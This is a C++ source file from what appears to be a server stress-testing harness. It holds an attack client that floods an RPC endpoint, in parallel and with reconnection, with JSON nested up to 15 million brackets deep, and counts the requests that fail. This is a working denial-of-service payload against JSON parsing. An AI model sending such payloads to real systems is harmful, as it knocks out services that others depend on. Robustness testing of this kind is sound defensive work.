// As many nested brackets as fit into a message.
#include "attack/clients.hpp"

namespace attack {

void deep_nesting(Field& field) {
    std::string towers;  // each as deep as is allowed, in an array of them
    const std::string tower = std::string(100, '[') + std::string(100, ']');
    while (towers.size() < 15'000'000) towers += (towers.empty() ? "" : ",") + tower;
    const std::string deep(15'000'000, '[');
    field.in_parallel([&](int) {
        Wire wire = field.connect();
        for (int i = 0; !field.is_over(); ++i) {
            const std::string meta = ",\"x\":" + (i % 2 == 0 ? deep : "[" + towers + "]");
            if (!wire.is_open()) wire = field.connect();
            if (wire.ask(modern_call("add", R"({"a":1,"b":2})", field.credentials, meta), field.until).status != 0)
                field.count();
        }
    });
}

}  // namespace attack
